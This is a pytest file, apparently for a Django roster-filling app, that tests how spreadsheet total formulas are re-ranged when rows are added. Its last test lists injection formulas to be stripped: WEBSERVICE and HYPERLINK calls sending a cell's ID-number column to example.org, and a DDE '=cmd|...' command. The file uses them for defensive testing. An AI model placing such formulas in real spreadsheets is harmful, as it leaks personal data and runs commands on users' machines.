"""Formulas of a superior's form: what only counts goes on counting, over the rows that were filled in."""

import pytest

from tests.rosters.test_superior_forms import blocks, fill, form, people, staff, two_villages

__all__ = ["staff"]  # a fixture
pytestmark = pytest.mark.django_db


def totals(cells):
    """An edit of `form`: {coordinate: what is put there}; row 6 becomes the line of totals."""

    def edit(book):
        sheet = book["附件1"]
        sheet.unmerge_cells("A6:I6")
        sheet["A6"] = "合计"
        for place, text in cells.items():
            sheet[place] = text

    return edit


def test_a_total_below_counts_all_the_rows(staff, client):
    people(5)

    sheet = fill(client, form(edit=totals({"D6": "=COUNTA(D3:D5)", "G6": '=IFERROR(AVERAGE(G$3:G$5),"")'})))["附件1"]

    assert (sheet["A8"].value, sheet["D8"].value) == ("合计", "=COUNTA(D3:D7)")
    assert sheet["G8"].value == '=IFERROR(AVERAGE(G$3:G$7),"")'


def test_a_total_counts_what_stands_where_the_example_stood(staff, client):
    people(5)
    example = {"A3": "例", "C3": "某村", "D3": "某某某", "E3": "350723199001010011"}

    sheet = fill(client, form(edit=totals({**example, "D6": "=COUNTA(D4:D5)"})))["附件1"]

    assert sheet["D8"].value == "=COUNTA(D3:D7)"


def test_a_form_with_room_keeps_its_totals(staff, client):
    people(2)

    sheet = fill(client, form(edit=totals({"D6": "=COUNTA(D3:D5)", "E6": "=D6*2"})))["附件1"]

    assert (sheet["D6"].value, sheet["E6"].value) == ("=COUNTA(D3:D5)", "=D6*2")


def test_a_formula_of_each_row_is_in_all_the_rows(staff, client):
    people(5)
    given = {f"I{row}": f"=G{row}*2+$G$6" for row in (3, 4, 5)} | {"G3": "=1+G4", "G6": "=SUM(G3:G5)"}

    sheet = fill(client, form(edit=totals(given)))["附件1"]

    assert [sheet.cell(row, 9).value for row in (3, 4, 7)] == ["=G3*2+$G$8", "=G4*2+$G$8", "=G7*2+$G$8"]
    assert isinstance(sheet["G3"].value, int)


def test_a_total_of_another_sheet_follows(staff, client):
    people(5, village="350723101201")

    def edit(book):
        book["汇总"]["D3"] = "=COUNTA(寨里镇!D3:D5)+COUNTA('止马镇'!D3:D5)"

    book = fill(client, form(sheets=("寨里镇", "止马镇", "汇总"), edit=edit))

    assert book["汇总"]["D3"].value == "=COUNTA(寨里镇!D3:D7)+COUNTA('止马镇'!D3:D5)"


def test_each_block_counts_its_own_rows(staff, client):
    import io

    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(blocks([f"{name}名册" for name in two_villages()])))
    for row in (5, 11):
        book.active[f"B{row}"] = f"=COUNTA(B{row - 2}:B{row - 1})"
    output = io.BytesIO()
    book.save(output)

    sheet = fill(client, output.getvalue()).worksheets[0]

    assert (sheet["B6"].value, sheet["B13"].value) == ("=COUNTA(B3:B5)", "=COUNTA(B10:B12)")


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://example.org/"&E3)',
        '=IF(1,WEBSERVICE("http://example.org/"&E3),SUM(G3:G5))',
        "=SUM([1]Sheet1!A1:A3)",
        "=SUM(nowhere!A1:A3)",
        "=SUM(G3:G5)+secret",
        "=cmd|'/c calc'!A0",
        '=INDIRECT("E3")',
    ],
)
def test_whatever_could_send_or_call_something_goes(staff, client, formula):
    people(2)

    book = fill(client, form(edit=totals({"D6": formula})))

    assert "f" not in {cell.data_type for row in book["附件1"].iter_rows() for cell in row}
